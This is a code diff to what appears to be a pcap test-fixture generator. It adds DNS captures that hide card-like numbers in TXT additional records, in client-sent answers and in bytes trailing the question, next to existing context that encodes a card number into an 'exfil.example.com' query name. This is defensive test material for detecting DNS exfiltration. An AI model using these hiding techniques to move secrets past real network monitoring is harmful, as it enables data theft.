@@ -18,7 +18,7 @@ import sys
 import zipfile
 import zlib
 
-from scapy.layers.dns import DNS, DNSQR
+from scapy.layers.dns import DNS, DNSQR, DNSRR
 
 from tcpgen import Capture, TcpSession, http_response, out_path, udp_send
 
@@ -372,6 +372,25 @@ def dns_tcp_capture(outdir):
     cap.write_pcap(out_path(outdir, "dns-tcp-not-dns.pcap"))
 
 
+DNS_HID_CARD = b"4532017664101006"   # TXT data of a query's additional record (TCP)
+DNS_HID_CARD2 = b"5527423088111007"  # an answer of a "response" a client sends (TCP)
+DNS_HID_CARD3 = b"4916882301441008"  # bytes after a query's question (UDP)
+
+
+def dns_hidden_capture(outdir):
+    """DNS messages to port 53 that carry values outside their names (pcaps/README.md)."""
+    cap = Capture()
+    q = DNS(id=0x4244, rd=1, qd=DNSQR(qname="q.example.com", qtype="A"),
+            ar=DNSRR(rrname="r.example.com", type="TXT", rdata=b"card " + DNS_HID_CARD))
+    r = DNS(id=0x4245, qr=1, qd=None,
+            an=DNSRR(rrname="a.example.com", type="TXT", rdata=b"card " + DNS_HID_CARD2))
+    session(cap, 47062, 53, [("c", len(bytes(q)).to_bytes(2, "big") + bytes(q)),
+                             ("c", len(bytes(r)).to_bytes(2, "big") + bytes(r))])
+    t = bytes(DNS(id=0x4246, rd=1, qd=DNSQR(qname="t.example.com", qtype="A")))
+    udp_send(cap, IN, "203.0.113.53", 53334, 53, t + b"card " + DNS_HID_CARD3, ipid=0x0101)
+    cap.write_pcap(out_path(outdir, "dns-hidden-bytes.pcap"))
+
+
 def dns_tls_capture(outdir):
     cap = Capture()
     q = DNS(id=0x4242, rd=1, qd=DNSQR(qname=CARD.decode() + ".exfil.example.com", qtype="TXT"))
@@ -592,6 +611,7 @@ def main():
     credentials_capture(outdir)
     dns_tls_capture(outdir)
     dns_tcp_capture(outdir)
+    dns_hidden_capture(outdir)
     websocket_capture(outdir)
 
 
